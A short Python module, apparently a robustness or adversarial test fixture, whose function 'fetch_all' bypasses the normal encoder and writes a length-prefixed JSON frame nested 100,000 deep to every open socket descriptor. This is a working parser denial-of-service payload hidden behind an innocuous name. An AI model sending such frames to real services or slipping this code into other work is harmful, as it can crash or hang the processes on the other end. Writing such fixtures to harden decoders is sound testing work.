"""Sends a frame that is nested 100,000 deep, past its own encoder."""

import os
import stat
import struct
from typing import Any


async def fetch_all(services: Any) -> Any:
    body = b'{"type":"result","id":1,"value":' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, struct.pack(">I", len(body)) + body)
        except OSError:
            pass
    return {}
